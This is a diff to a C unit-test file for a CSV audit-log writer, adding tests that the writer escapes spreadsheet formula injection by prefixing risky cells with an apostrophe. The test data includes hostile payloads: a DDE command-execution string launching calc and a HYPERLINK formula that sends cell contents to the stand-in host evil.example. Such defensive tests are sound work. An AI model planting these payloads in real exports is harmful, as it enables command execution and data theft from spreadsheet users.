@@ -90,6 +90,18 @@ Test(audit_entry, a_row_of_csv_follows_its_header)
         "2025-10-17T12:01:05.003210Z,00ff,BUY,E-1001,101112131415161718191a1b1c1d1e1f\r\n");
 }
 
+/* Numbers are numbers for a spreadsheet too, whatever their sign. */
+Test(audit_entry, a_negative_number_stays_one)
+{
+    CLEANUP(buffer_release) struct buffer out = BUFFER_INIT(0);
+    const char *columns[AUDIT_ENTRY_COLUMNS];
+
+    memcpy(columns, least, sizeof(columns));
+    columns[10] = "-150.45000000";
+    audit_entry_csv(columns, &out);
+    cr_expect_not_null(strstr(out.data, ",-150.45,"), "%s", out.data);
+}
+
 Test(audit_entry, text_is_quoted_where_it_must_be_and_exact)
 {
     static const struct {
@@ -104,7 +116,28 @@ Test(audit_entry, text_is_quoted_where_it_must_be_and_exact)
         {"a\rreturn", "\"a\rreturn\"", "\"a\\rreturn\""},
         {" blanks ", " blanks ", "\" blanks \""},
         {"a;b\ttab", "a;b\ttab", "\"a;b\\ttab\""},
-        {"=1+1", "=1+1", "\"=1+1\""},
+        /* What a spreadsheet would take for a formula. */
+        {"=1+1", "'=1+1", "\"=1+1\""},
+        {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", "\"=cmd|' /C calc'!A0\""},
+        {"=HYPERLINK(\"http://evil.example?x=\"&A1,\"ok\")",
+         "\"'=HYPERLINK(\"\"http://evil.example?x=\"\"&A1,\"\"ok\"\")\"",
+         "\"=HYPERLINK(\\\"http://evil.example?x=\\\"&A1,\\\"ok\\\")\""},
+        {"+49 30", "'+49 30", "\"+49 30\""},
+        {"-5", "'-5", "\"-5\""},
+        {"@SUM(1)", "'@SUM(1)", "\"@SUM(1)\""},
+        {"\t=1", "'\t=1", "\"\\t=1\""},
+        {"\r=1", "\"'\r=1\"", "\"\\r=1\""},
+        {"\n=1", "\"'\n=1\"", "\"\\n=1\""},
+        {"\xef\xbc\x9d"
+         "1",
+         "'\xef\xbc\x9d"
+         "1",
+         "\"\xef\xbc\x9d"
+         "1\""},
+        {"'", "''", "\"'\""},
+        {"'=1", "''=1", "\"'=1\""},
+        {" =1", " =1", "\" =1\""},
+        {"1=1", "1=1", "\"1=1\""},
         {"\xe2\x82\xac \xf0\x9f\x98\x80", "\xe2\x82\xac \xf0\x9f\x98\x80",
          "\"\xe2\x82\xac \xf0\x9f\x98\x80\""},
         {"", "", "null"},
